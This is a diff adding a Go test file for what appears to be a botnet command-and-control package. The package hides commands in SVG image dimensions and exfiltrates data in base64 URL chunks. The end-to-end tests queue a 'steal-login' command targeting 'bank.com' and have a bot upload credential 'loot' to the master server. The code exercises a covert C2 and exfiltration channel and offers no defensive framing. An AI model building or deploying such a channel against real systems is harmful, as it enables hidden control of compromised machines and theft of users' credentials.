@@ -1,0 +1,248 @@
+package cnc
+
+import (
+	"bytes"
+	"context"
+	"testing"
+	"testing/quick"
+	"time"
+)
+
+func TestDimsRoundTrip(t *testing.T) {
+	for _, msg := range [][]byte{nil, {}, []byte("x"), []byte("abcd"), []byte("hello world, this is the master speaking")} {
+		dims := EncodeDims(msg)
+		got, err := DecodeDims(dims)
+		if err != nil {
+			t.Fatalf("decode %q: %v", msg, err)
+		}
+		if !bytes.Equal(got, msg) {
+			t.Fatalf("round trip %q -> %q", msg, got)
+		}
+	}
+}
+
+func TestDimsRoundTripProperty(t *testing.T) {
+	f := func(msg []byte) bool {
+		got, err := DecodeDims(EncodeDims(msg))
+		return err == nil && bytes.Equal(got, msg)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestImagesNeededMatchesEncoder(t *testing.T) {
+	for n := 0; n < 64; n++ {
+		msg := bytes.Repeat([]byte("a"), n)
+		if got, want := len(EncodeDims(msg)), ImagesNeeded(n); got != want {
+			t.Fatalf("n=%d: encoder %d images, ImagesNeeded %d", n, got, want)
+		}
+	}
+}
+
+func TestFourBytesPerImage(t *testing.T) {
+	// 60 payload bytes + 4 length prefix = 64 bytes = 16 images.
+	if got := len(EncodeDims(make([]byte, 60))); got != 16 {
+		t.Fatalf("images = %d, want 16", got)
+	}
+}
+
+func TestDecodeTruncated(t *testing.T) {
+	dims := EncodeDims([]byte("a long enough message"))
+	if _, err := DecodeDims(dims[:2]); err == nil {
+		t.Fatal("truncated stream decoded")
+	}
+	if _, err := DecodeDims(nil); err == nil {
+		t.Fatal("empty stream decoded")
+	}
+}
+
+func TestClamp(t *testing.T) {
+	cases := map[int]uint16{-5: 0, 0: 0, 100: 100, 65535: 65535, 70000: 65535}
+	for in, want := range cases {
+		if got := Clamp(in); got != want {
+			t.Errorf("Clamp(%d) = %d, want %d", in, got, want)
+		}
+	}
+}
+
+func TestSVGRoundTripAndSize(t *testing.T) {
+	d := Dim{W: 513, H: 65535}
+	svg := RenderSVG(d)
+	// The paper: "An SVG image, having no actual content, is of size 100
+	// bytes" — ours must stay in that ballpark for the overhead math.
+	if len(svg) > 120 {
+		t.Fatalf("svg size = %d bytes, want ≤120", len(svg))
+	}
+	got, err := ParseSVG(svg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != d {
+		t.Fatalf("round trip %+v -> %+v", d, got)
+	}
+}
+
+func TestSVGDimRoundTripProperty(t *testing.T) {
+	f := func(w, h uint16) bool {
+		got, err := ParseSVG(RenderSVG(Dim{W: w, H: h}))
+		return err == nil && got == Dim{W: w, H: h}
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestParseSVGClampsOversize(t *testing.T) {
+	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="70000" height="3"></svg>`)
+	d, err := ParseSVG(svg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d.W != MaxDim {
+		t.Fatalf("width = %d, want clamped %d", d.W, MaxDim)
+	}
+}
+
+func TestParseSVGRejectsGarbage(t *testing.T) {
+	if _, err := ParseSVG([]byte("<html>not an svg</html>")); err == nil {
+		t.Fatal("garbage parsed as SVG")
+	}
+}
+
+func TestURLChunksRoundTrip(t *testing.T) {
+	data := bytes.Repeat([]byte("credential-dump "), 200) // 3200 bytes
+	chunks := EncodeURLChunks(data, 1024)
+	if len(chunks) != 4 {
+		t.Fatalf("chunks = %d, want 4", len(chunks))
+	}
+	var got []byte
+	for _, c := range chunks {
+		part, err := DecodeURLChunk(c)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got = append(got, part...)
+	}
+	if !bytes.Equal(got, data) {
+		t.Fatal("upstream round trip corrupted")
+	}
+}
+
+func TestURLChunksRoundTripProperty(t *testing.T) {
+	f := func(data []byte, size uint8) bool {
+		chunks := EncodeURLChunks(data, int(size))
+		var got []byte
+		for _, c := range chunks {
+			part, err := DecodeURLChunk(c)
+			if err != nil {
+				return false
+			}
+			got = append(got, part...)
+		}
+		return bytes.Equal(got, data) || (len(data) == 0 && len(got) == 0)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestURLChunkRejectsBadBase64(t *testing.T) {
+	if _, err := DecodeURLChunk("!!!not-base64!!!"); err == nil {
+		t.Fatal("bad chunk decoded")
+	}
+}
+
+func TestMasterBotEndToEnd(t *testing.T) {
+	master := NewMasterServer()
+	base, shutdown, err := master.Serve()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() {
+		if err := shutdown(); err != nil {
+			t.Errorf("shutdown: %v", err)
+		}
+	}()
+
+	bot := &Bot{BaseURL: base, ID: "bot-1", Concurrency: 4}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+
+	// Nothing pending yet.
+	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
+		t.Fatalf("empty poll: ok=%v err=%v", ok, err)
+	}
+
+	// Downstream command.
+	cmd := []byte(`{"module":"steal-login","target":"bank.com"}`)
+	id := master.QueueCommand("bot-1", cmd)
+	got, gotID, ok, err := bot.Poll(ctx)
+	if err != nil || !ok {
+		t.Fatalf("poll: ok=%v err=%v", ok, err)
+	}
+	if gotID != id || !bytes.Equal(got, cmd) {
+		t.Fatalf("poll got id=%d %q", gotID, got)
+	}
+
+	// Same command not re-delivered.
+	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
+		t.Fatalf("re-poll: ok=%v err=%v", ok, err)
+	}
+
+	// Upstream exfiltration.
+	loot := bytes.Repeat([]byte("user=alice&pass=hunter2;"), 300)
+	if err := bot.Upload(ctx, "creds", loot); err != nil {
+		t.Fatalf("upload: %v", err)
+	}
+	up, ok := master.Upload("bot-1", "creds")
+	if !ok || !bytes.Equal(up, loot) {
+		t.Fatalf("master upload: ok=%v len=%d want %d", ok, len(up), len(loot))
+	}
+	if streams := master.Streams("bot-1"); len(streams) != 1 || streams[0] != "creds" {
+		t.Fatalf("streams = %v", streams)
+	}
+	if bots := master.Bots(); len(bots) != 1 || bots[0] != "bot-1" {
+		t.Fatalf("bots = %v", bots)
+	}
+}
+
+func TestMasterLargeCommandManyImages(t *testing.T) {
+	master := NewMasterServer()
+	base, shutdown, err := master.Serve()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = shutdown() }()
+	cmd := bytes.Repeat([]byte("X"), 8192) // 2049 images
+	master.QueueCommand("b", cmd)
+	bot := &Bot{BaseURL: base, ID: "b", Concurrency: 16}
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	got, _, ok, err := bot.Poll(ctx)
+	if err != nil || !ok {
+		t.Fatalf("poll: %v", err)
+	}
+	if !bytes.Equal(got, cmd) {
+		t.Fatalf("large command corrupted: %d bytes", len(got))
+	}
+}
+
+func TestMasterUnfinishedUploadInvisible(t *testing.T) {
+	master := NewMasterServer()
+	base, shutdown, err := master.Serve()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = shutdown() }()
+	bot := &Bot{BaseURL: base, ID: "b"}
+	ctx := context.Background()
+	// Send one chunk manually without fin.
+	chunk := EncodeURLChunks([]byte("partial"), 0)[0]
+	if err := bot.get(ctx, base+"/up/b/s/0/"+chunk); err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := master.Upload("b", "s"); ok {
+		t.Fatal("unfinished stream visible")
+	}
+}
